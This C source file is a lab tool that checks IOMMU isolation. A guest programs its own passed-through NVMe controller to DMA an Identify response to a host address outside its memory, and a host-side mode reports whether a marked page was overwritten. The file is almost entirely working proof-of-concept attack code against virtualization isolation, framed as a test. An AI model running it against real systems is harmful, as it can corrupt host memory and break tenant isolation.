/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A guest that programs its own NVMe controller to write outside of the guest's memory.
 *
 *   dmaout page                 in the lab: a page filled with 0x5a, whose place in the lab's memory
 *                               it prints; at a line on the standard input it says whether the page is
 *                               as it was
 *   dmaout attack FUNCTION ADDR in the guest: the controller FUNCTION ("0000:00:01.0", without a
 *                               driver) identifies itself first to a page of the guest, which must
 *                               work, and then to ADDR; it prints both completions
 *
 * NVM Express Base 1.4, 3.1 (registers), 4.2 and 4.6 (queues), 5.15 (identify).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE 4096
#define ENTRIES 8

static void must(int ok, const char *what)
{
	if (ok)
		return;
	fprintf(stderr, "dmaout: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint64_t place_of(const void *p)
{
	int fd = open("/proc/self/pagemap", O_RDONLY);
	uint64_t v = 0;

	must(fd >= 0 && pread(fd, &v, 8, (off_t)((uintptr_t)p / PAGE * 8)) == 8, "pagemap");
	close(fd);
	must(v >> 63 && (v & ((1ull << 55) - 1)), "a page that is there");
	return (v & ((1ull << 55) - 1)) * PAGE;
}

static void *a_page(int fill)
{
	void *p = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);

	must(p != MAP_FAILED, "mmap");
	memset(p, fill, PAGE);
	return p;
}

/* Above what the guest has: there the guest's addresses mean nothing to the IOMMU. */
static int page(void)
{
	uint8_t *p = a_page(0x5a);
	char line[16];

	while (place_of(p) < 1ull << 30)
		p = a_page(0x5a);
	printf("0x%llx\n", (unsigned long long)place_of(p));
	fflush(stdout);
	must(fgets(line, sizeof(line), stdin) != NULL, "a line");
	for (unsigned i = 0; i < PAGE; i++) {
		if (p[i] != 0x5a) {
			printf("changed at %u: 0x%02x\n", i, p[i]);
			return 1;
		}
	}
	puts("unchanged");
	return 0;
}

struct command {
	uint32_t dword0, nsid, pad[4];
	uint64_t prp1, prp2;
	uint32_t dword10[6];
};
_Static_assert(sizeof(struct command) == 64, "submission queue entry");

static volatile uint32_t *regs;
static volatile struct command *queue;
static volatile uint32_t *done;

static void reg64(unsigned off, uint64_t v)
{
	regs[off / 4] = (uint32_t)v;
	regs[off / 4 + 1] = (uint32_t)(v >> 32);
}

static void wait_ready(uint32_t want)
{
	for (int i = 0; i < 1000 && (regs[0x1c / 4] & 1) != want; i++)
		usleep(10000);
	must((regs[0x1c / 4] & 1) == want, "CSTS.RDY");
}

static void identify(unsigned n, uint64_t to)
{
	queue[n] = (struct command){.dword0 = 6 | n << 16, .prp1 = to, .dword10 = {1}};
	regs[0x1000 / 4] = n + 1;
	for (int i = 0; i < 500 && !(done[4 * n + 3] >> 16 & 1); i++)
		usleep(10000);
	if (done[4 * n + 3] >> 16 & 1)
		printf("status 0x%x\n", done[4 * n + 3] >> 17);
	else
		puts("no completion");
}

/* Memory of the controller, in a BAR of its own. */
static void use_memory(const char *function)
{
	volatile uint64_t *m;
	char path[128];
	int fd;

	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/resource2", function);
	fd = open(path, O_RDWR);
	must(fd >= 0, path);
	m = mmap(NULL, 64ul << 20, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	must(m != MAP_FAILED, path);
	m[0] = 0x1122334455667788;
	m[(64ul << 20) / 8 - 1] = 42;
	must(m[0] == 0x1122334455667788 && m[(64ul << 20) / 8 - 1] == 42, "its memory");
	puts("memory of 64 MiB");
}

static int attack(const char *function, uint64_t outside)
{
	uint8_t *inside = a_page(0);
	char path[128];
	uint16_t command = 6;
	int fd;

	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/config", function);
	fd = open(path, O_RDWR);
	must(fd >= 0 && pwrite(fd, &command, 2, 4) == 2, path);
	close(fd);
	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/resource0", function);
	fd = open(path, O_RDWR);
	regs = fd < 0 ? MAP_FAILED
		      : mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	must(regs != MAP_FAILED, path);
	queue = a_page(0);
	done = a_page(0);
	regs[0x14 / 4] = 0;
	wait_ready(0);
	regs[0x24 / 4] = (ENTRIES - 1) << 16 | (ENTRIES - 1);
	reg64(0x28, place_of((const void *)queue));
	reg64(0x30, place_of((const void *)done));
	regs[0x14 / 4] = 4 << 20 | 6 << 16 | 1;
	wait_ready(1);
	identify(0, place_of(inside));
	printf("inside: vendor 0x%02x%02x\n", inside[1], inside[0]);
	identify(1, outside);
	regs[0x14 / 4] = 0;
	wait_ready(0);
	use_memory(function);
	puts("attacked");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "page"))
		return page();
	if (argc == 4 && !strcmp(argv[1], "attack"))
		return attack(argv[2], strtoull(argv[3], NULL, 0));
	fputs("dmaout page | attack FUNCTION ADDR\n", stderr);
	return 2;
}
